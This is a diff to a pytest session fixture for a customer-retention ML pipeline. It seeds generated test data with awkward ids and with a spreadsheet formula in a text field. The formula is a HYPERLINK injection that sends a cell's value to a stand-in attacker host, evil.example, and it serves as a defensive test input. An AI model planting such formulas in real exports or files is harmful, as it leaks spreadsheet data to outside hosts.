@@ -1,6 +1,7 @@
 """A real store and registry, built once per session, and real servers (uvicorn on a free 127.0.0.1 port).
 
-1,500 generated customers are validated, trained on (MLflow in SQLite under the pytest temp folder, never the
+1,500 generated customers, a few of them given the awkward ids and segments real data has (`AWKWARD_IDS`,
+`FORMULA_SEGMENT`), are validated, trained on (MLflow in SQLite under the pytest temp folder, never the
 project's mlruns/) and scored as of 2025-12-31. Under pytest-xdist the workers share one store: the first to
 take the lock builds it. Tests treat that store as read-only; a test that writes copies the data folder first.
 """
@@ -16,7 +17,7 @@ from collections.abc import Iterator
 from contextlib import contextmanager
 from dataclasses import dataclass
 from pathlib import Path
-from typing import Any
+from typing import TYPE_CHECKING, Any
 
 import httpx
 import pandas as pd
@@ -24,9 +25,16 @@ import pytest
 
 from tests.session_build import build_once
 
+if TYPE_CHECKING:
+    from retain.simulate import SampleData
+
 CUSTOMERS = 1500
 SEED = 20251231
 AS_OF = dt.date(2025, 12, 31)
+# ids the contract allows that a URL or a spreadsheet treats specially: a slash, 300 characters, a leading "-"
+AWKWARD_IDS = {"C0000002": "ACME/42", "C0000003": "ACME-" + "7" * 295, "C0000004": "-42"}
+FORMULA_SEGMENT = '=HYPERLINK("http://evil.example/?x="&A1,"click")'  # a spreadsheet formula in a text cell
+FORMULA_CUSTOMERS = ("C0000005", "C0000006")
 
 
 def pytest_configure(config: pytest.Config) -> None:
@@ -54,6 +62,16 @@ class Store:
         return ScoreBatch.load(store_dir(self.data_dir)).frame
 
 
+def _with_awkward_values(sample: SampleData) -> SampleData:
+    """The sample with `AWKWARD_IDS` renamed in every table and `FORMULA_SEGMENT` given to `FORMULA_CUSTOMERS`."""
+    for frame in (sample.customers, sample.transactions, sample.interactions, sample.truth):
+        if frame is not None:
+            frame["customer_id"] = frame["customer_id"].replace(AWKWARD_IDS)
+    formula = sample.customers["customer_id"].isin(FORMULA_CUSTOMERS)
+    sample.customers.loc[formula, "segment"] = FORMULA_SEGMENT
+    return sample
+
+
 def _build(base: Path) -> dict[str, str]:
     from batch.job import score_all
     from retain.ingest import load
@@ -62,7 +80,7 @@ def _build(base: Path) -> dict[str, str]:
     from training.pipeline import train
 
     store = Store(base, base / "data", f"sqlite:///{base}/mlflow.db", "")
-    write_sample(generate(CUSTOMERS, SEED), store.data_dir)
+    write_sample(_with_awkward_values(generate(CUSTOMERS, SEED)), store.data_dir)
     data = load(store.data_dir)
     train(store.settings(), data, store.data_dir, AS_OF, None)
     _, info = score_all(store.settings(), data, store.data_dir, AS_OF, dt.datetime.now(dt.UTC))
